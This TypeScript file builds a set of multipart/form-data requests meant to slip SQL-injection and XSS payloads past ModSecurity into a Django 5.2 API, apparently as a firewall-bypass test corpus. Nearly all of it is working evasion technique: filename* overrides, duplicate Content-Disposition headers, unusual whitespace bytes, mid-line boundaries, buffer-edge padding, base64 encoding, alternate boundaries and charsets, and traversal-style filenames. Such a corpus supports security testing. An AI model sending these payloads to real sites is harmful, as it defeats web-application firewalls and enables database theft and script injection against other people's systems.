import { request, type Sent } from "../request";

const attack = "1' OR '1'='1' UNION SELECT password FROM auth_user--<script>alert(1)</script>";
const type = "multipart/form-data; boundary=bound";
const field = 'Content-Disposition: form-data; name="title"';
const file = `${field}; filename="a.png"`;
const end = "--bound--\r\n";
const part = (head: string, value = attack): string => `--bound\r\n${head}\r\n\r\n${value}\r\n`;
const harmless = part(field, "стул");

const sent = (body: string, contentType = type, encoding: "utf8" | "latin1" = "utf8"): Sent =>
  ({ name: "922", ...request("POST", "/api/v1/orders/", { "Content-Type": contentType }, Buffer.from(body, encoding)) });
/** A byte for each character. */
const bytes = (body: string): Sent => sent(body, type, "latin1");

/** Django reads 64 KiB at once. A part that it passes over it leaves unread, and takes what is beyond them for the next part. */
const passedOver = (head: string): string => {
  const begun = `--bound\r\n${head}\r\n\r\n`;
  // Less what it puts back, for it could be the beginning of a boundary.
  const put = "--bound".length + 6;
  return begun + "a".repeat(65536 - Buffer.byteLength(begun, "latin1") - put) + `${field}\r\n\r\n${attack}\r\n${end}`;
};
const utf8 = (text: string): string => Buffer.from(text).toString("latin1");
const named = (name: string): Sent => bytes(passedOver(`${field}; filename="${utf8(name)}"`));

/** Ways to have ModSecurity take for a file, which nothing looks into, or for a field of another name, what Django 5.2 takes for a field. */
export const multipart: Sent[] = [
  // A parameter that overrides the one before it, spelt in every way.
  ...["; filename*=utf-8''", "; filename* = utf-8''", " ;\t filename*=utf-8''", ";filename*=UTF-8'ru'", "; filename*=\"\"", "; filename*0=\"\"", "; filename*0*=utf-8''", "; name*=utf-8''other", "; FILENAME*=utf-8''"]
    .map((more) => sent(part(file + more) + end)),
  sent(part(`${field};\r\n filename="a.png";\r\n filename*=utf-8''`) + end),
  // A second header, of which the last counts there and the first here.
  ...[field, field.toLowerCase(), field.toUpperCase(), "Content-Disposition:form-data;name=title", ` ${field}`, `\t${field}`, `Content-Type: image/png\r\n${field}`, `X-Other: 1\r\n${field}`]
    .map((second) => sent(harmless + part(`${file}\r\n${second}`) + harmless + end)),
  // Python takes these for white space, and off.
  ...["\x0b", "\x0c", "\x1c", "\x1f", "\x85", "\xa0", "\u2003", "\u3000"].map((space) => sent(part(`${file}\r\n${space}${field}`) + end)),
  sent(part(`Content-Disposition: form-data; name="password"\r\n${field}`) + end),
  // Quotes that are counted otherwise.
  sent(part('Content-Disposition: form-data; name="a\\\\"; filename="b"') + end),
  sent(part('Content-Disposition: form-data; name="a\\\\"; filename="; name=title; x="') + end),
  sent(part(`${field}; x="\\"; filename="a.png"`) + end),
  // A boundary within a line: Django looks for it anywhere.
  ...["a", "-", "\r", "\0", "a".repeat(5000), "\r\n\t"].flatMap((before) =>
    [end, harmless + end].map((after) => sent(part(file, `a${before}--bound\r\n${field}\r\n\r\n${attack}`) + after))),
  sent(part(file, `a--bound-\r\n${field}\r\n\r\n${attack}`) + harmless + end),
  // Files of which nothing is left when their folder and what cannot be printed are taken off, and headers that it cannot read.
  ...["..", ".", "/", "a/", "C:\\Фото\\", "&#46", "&#x2e", "a&#47", "&nbsp", "&period;", "a&sol;", "a&bsol;", "\x01", "\xa0", "\xad", "\u200b", "\u2003", "\u3000", "\ufeff", "\ue000", "../.."].map(named),
  bytes(passedOver(`${field}; filename="\xff.png"`)),
  bytes(passedOver(`${field}; filename="\xc0\xaf.png"`)),
  bytes(passedOver(`${file}\r\nX-Long: ${"a".repeat(1100)}`)),
  // What Django decodes.
  ...["base64", "Base64", " base64 ", "base64\r\nContent-Transfer-Encoding: binary"].map((encoding) =>
    sent(part(`${field}\r\nContent-Transfer-Encoding: ${encoding}`, Buffer.from(attack).toString("base64")) + end)),
  // Another boundary, another alphabet.
  ...["; boundary=b", "; boundary*=utf-8''b", "; boundary*0=b", ";type=boundary=b", "; charset=utf-16", "; charset=utf-7", ",b"].map((more) =>
    sent(part(file, `\r\n--b\r\n${field}\r\n\r\n${attack}\r\n--b--\r\n`) + end, type + more)),
  sent(part(field) + end, "multipart/form-data; BOUNDARY=bound"),
  sent(part(field) + end, "multipart/mixed; boundary=bound"),
  // Before the first part, after the last, and with no end.
  sent(`${field}\r\n\r\n${attack}\r\n${harmless}${end}`),
  sent(`${harmless}${end}${part(field)}${end}`),
  sent(harmless + part(file).slice(0, -2)),
];
